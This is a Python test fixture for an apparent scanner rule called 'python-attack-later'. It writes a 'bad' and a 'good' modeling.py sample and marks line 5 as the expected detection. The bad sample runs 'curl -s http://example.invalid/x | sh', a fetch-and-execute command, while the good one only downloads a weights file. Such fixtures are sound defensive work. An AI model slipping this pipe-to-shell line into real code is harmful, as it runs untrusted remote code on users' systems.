"""Samples of `python-attack-later`."""

from __future__ import annotations

from pathlib import Path

EXPECT = {"line": 5}


def bad(folder: Path) -> str:
    (folder / "modeling.py").write_text(
        'import os\n\n\ndef update():\n    os.system("curl -s http://example.invalid/x | sh")\n'
    )
    return "modeling.py"


def good(folder: Path) -> None:
    (folder / "modeling.py").write_text(
        "import os\n"
        "\n"
        "\n"
        "def update():\n"
        '    os.system("curl -s -O http://example.invalid/weights.bin")\n'
    )
